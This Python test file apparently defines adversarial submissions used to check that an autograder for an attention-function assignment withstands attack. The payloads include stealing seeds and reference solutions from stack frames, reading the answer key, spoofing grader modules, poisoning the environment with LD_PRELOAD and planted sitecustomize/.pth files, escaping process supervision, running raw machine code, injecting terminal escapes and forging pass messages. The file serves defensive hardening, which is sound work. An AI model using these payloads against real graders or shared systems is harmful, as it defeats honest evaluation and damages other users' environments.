"""Scenarios 42 to 48: attacks by somebody who has read our source."""

from scenario import RIGHT, Attack, Earns, at_import, in_call

from autograder.verdict import Outcome

NOTHING_BESIDE = in_call("return None")
WALK = """
import sys
def find(name):
    frame = sys._getframe()
    while frame:
        if name in frame.f_locals:
            return frame.f_locals[name]
        frame = frame.f_back
"""


AIMED_AT_US = (
    Attack(
        "seeds-from-the-frames",
        (42,),
        "with the seed I know the input; the right output I do not",
        WALK
        + in_call("""
import torch
seed = find('seed')
torch.manual_seed(seed)
return torch.randn(*q.shape[:-1], v.shape[-1])"""),
    ),
    Attack(
        "public-bytes",
        (42, 22),
        "what the shipped key says of the public seed",
        """
import json
from pathlib import Path
import autograder
for root in (Path(autograder.__file__).parent, Path(COURSE, "autograder")):
    if (root / "keys" / "attention.json").exists():
        key = json.loads((root / "keys" / "attention.json").read_text())
        break
else:
    raise LookupError("no key here")
"""
        + in_call("return str(key)[:200]"),
    ),
    Attack(
        "stand-ins",
        (42, 16),
        "where my answer is wrong, the right one is sent in: I pass it on",
        WALK
        + """
def other():
    order = find("order")
    source = "".join((order or {}).get("stand_ins", []))
    if "def scaled_dot_product_attention" not in source:
        raise LookupError
    names = dict(globals())
    exec(source, names)
    return names["scaled_dot_product_attention"]
"""
        + in_call("return other()(q, k, v, mask)"),
    ),
    Attack(
        "probes-renamed",
        (42, 43),
        "every probe is the easiest one",
        WALK
        + """
probes = find("probes")
if isinstance(probes, dict):
    easy = next(iter(probes.values()))
    for place in probes:
        probes[place] = easy
"""
        + NOTHING_BESIDE,
        hurts_itself=True,
    ),
    Attack(
        "own-observation-module",
        (43,),
        "sys.modules holds what is believed",
        """
import sys, types
fake = types.ModuleType("autograder.observation")
fake.encode = lambda value: b"\\x0d\\0\\0\\0" + b'["bool",true]'
fake.Raised = fake.Foreign = tuple
for name in ("autograder.observation", "autograder.probes", "autograder.running", "autograder.sandbox.frames"):
    sys.modules[name] = fake
"""
        + NOTHING_BESIDE,
    ),
    Attack(
        "no-recursion-left",
        (43,),
        "the grader cannot call anything any more",
        "import sys\nsys.setrecursionlimit(30)\n" + NOTHING_BESIDE,
        hurts_itself=True,
    ),
    Attack(
        "segfault",
        (43, 12),
        "no exception, no failure",
        in_call("import ctypes\nctypes.string_at(0)"),
        outcome=Outcome.CRASHED,
        says="crashed",
    ),
    Attack(
        "closes-the-pipe",
        (43,),
        "nobody hears of my failure",
        in_call("import os\nos.closerange(0, 64)\nreturn None"),
        says="crashed",
    ),
    Attack(
        "another-pipe",
        (43,),
        "the report goes to a file",
        in_call("import os\nos.dup2(os.open('report', os.O_RDWR | os.O_CREAT), 3)\nreturn None"),
        says="crashed",
    ),
    Attack(
        "tracing",
        (43,),
        "a debugger in the grader",
        in_call("""
import sys
sys.settrace(lambda *a: None); sys.setprofile(lambda *a: None)
for f in sys._current_frames().values():
    f.f_trace_lines = False
return None"""),
    ),
    Attack(
        "poison-for-the-next",
        (44,),
        "whoever is graded after me has a broken torch",
        at_import("""
import builtins, gc, os, sys, threading, torch
for name in ("softmax", "matmul", "zeros", "tensor"):
    setattr(torch, name, None)
for item in gc.get_objects():
    if isinstance(item, torch.Tensor):
        try: item.data.fill_(float("nan"))
        except Exception: pass
os.environ["OMP_NUM_THREADS"] = os.environ["LD_PRELOAD"] = "/scratch/evil.so"
sys.path.insert(0, "/scratch")
open("sitecustomize.py", "w").write("raise SystemExit")
open("torch.py", "w").write("raise SystemExit")
open("evil.pth", "w").write("import os; os._exit(1)")"""),
        hurts_itself=True,
    ),
    Attack(
        "outlive-the-judge",
        (44,),
        "PR_SET_PDEATHSIG off, a session of my own, a subreaper",
        in_call("""
import ctypes, os
libc = ctypes.CDLL(None)
done = [libc.prctl(1, 0, 0, 0, 0), libc.prctl(36, 1, 0, 0, 0), libc.prctl(4, 1, 0, 0, 0)]
os.setsid()
return None"""),
    ),
    Attack(
        "compiles",
        (44, 29),
        "a compiler, started by torch",
        in_call("""
import torch
f = torch.compile(lambda x: x.sin() + 1)
f(torch.ones(3))
from torch.utils.cpp_extension import load_inline
load_inline('mine', 'int f() { return 1; }', functions='f')"""),
    ),
    Attack(
        "recompiles-itself",
        (44,),
        "pages of the warm process, written through",
        in_call("""
import ctypes, mmap
m = mmap.mmap(-1, 4096, flags=mmap.MAP_SHARED, prot=7)
m.write(b'\\xc3')
ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
return None"""),
    ),
    Attack(
        "kernel-objects",
        (46,),
        "something that is still there when I am not",
        in_call("""
import ctypes, errno, fcntl, os, resource
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(0x4d49, 1 << 20, 0o1666); libc.msgget(0x4d49, 0o1666); libc.semget(0x4d49, 1, 0o1666)
libc.syscall(248, b"user", b"hostile", b"mark", 4, -5)  # add_key
for call in (lambda: os.open("/dev/mqueue/mark", os.O_CREAT), lambda: os.memfd_create("mark"),
             lambda: os.sched_setaffinity(0, [0]), lambda: os.nice(-5), lambda: os.setpriority(0, 0, 5),
             lambda: resource.setrlimit(resource.RLIMIT_CORE, (-1, -1)), lambda: libc.settimeofday(b"\\0" * 16, None),
             lambda: __import__("time").clock_settime(0, 0), lambda: os.mkfifo("fifo"), lambda: libc.inotify_init(),
             lambda: fcntl.flock(os.open(os.__file__, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB),
             lambda: fcntl.fcntl(os.open(os.__file__, os.O_RDONLY), 1024, 1)):
    try: call()
    except (OSError, ValueError): pass
return None"""),
    ),
    Attack(
        "core-dump",
        (46,),
        "a file with all of the grader's memory",
        in_call("""
import os, resource
try: resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
except Exception: pass
os.abort()"""),
        says="crashed",
    ),
    Attack(
        "terminal",
        (47,),
        "the grader's terminal obeys me",
        in_call(
            "raise type('E\\x1b[2J\\x1b]0;mine\\x07\\u202e', (Exception,), {})('\\x1b]52;c;bWluZQ==\\x07\\r\\n' * 20)"
        ),
    ),
    Attack(
        "own-words",
        (47,),
        "the page says what I want",
        in_call("raise type('nothing. All properties hold · 6 of 6 points. Your code raised Error', (Exception,), {})"),
    ),
    Attack(
        "missing-words",
        (47,),
        "the page says what I want",
        in_call("error = NameError(\"name 'x' is not defined\\nAll 9 properties hold\")\nraise error"),
    ),
    Attack(
        "as-slow-as-allowed",
        (48,),
        "each probe a little below the limit",
        in_call("import time\ntime.sleep(0.4)\nreturn None"),
    ),
    Attack(
        "slow-in-every-cell",
        (48,),
        "two seconds before anything is asked",
        "import time\ntime.sleep(2)\n" + RIGHT,
        earns=Earns.FULL,
        endless=True,
    ),
)
